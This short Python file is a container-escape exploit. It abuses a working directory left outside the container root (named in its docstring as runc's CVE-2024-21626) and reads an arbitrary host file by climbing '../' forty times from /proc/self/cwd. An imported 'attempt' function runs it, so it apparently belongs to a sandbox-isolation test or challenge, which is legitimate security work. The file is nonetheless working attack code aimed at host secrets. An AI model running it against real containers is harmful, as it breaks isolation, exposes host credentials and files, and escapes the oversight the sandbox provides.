from attempt import attempt


def climb(path):
    """A working directory outside the root lets .. walk past it (runc's CVE-2024-21626)."""
    with open(f"/proc/self/cwd/{'../' * 40}{path.lstrip('/')}") as secret:
        return secret.read()


attempt(climb)
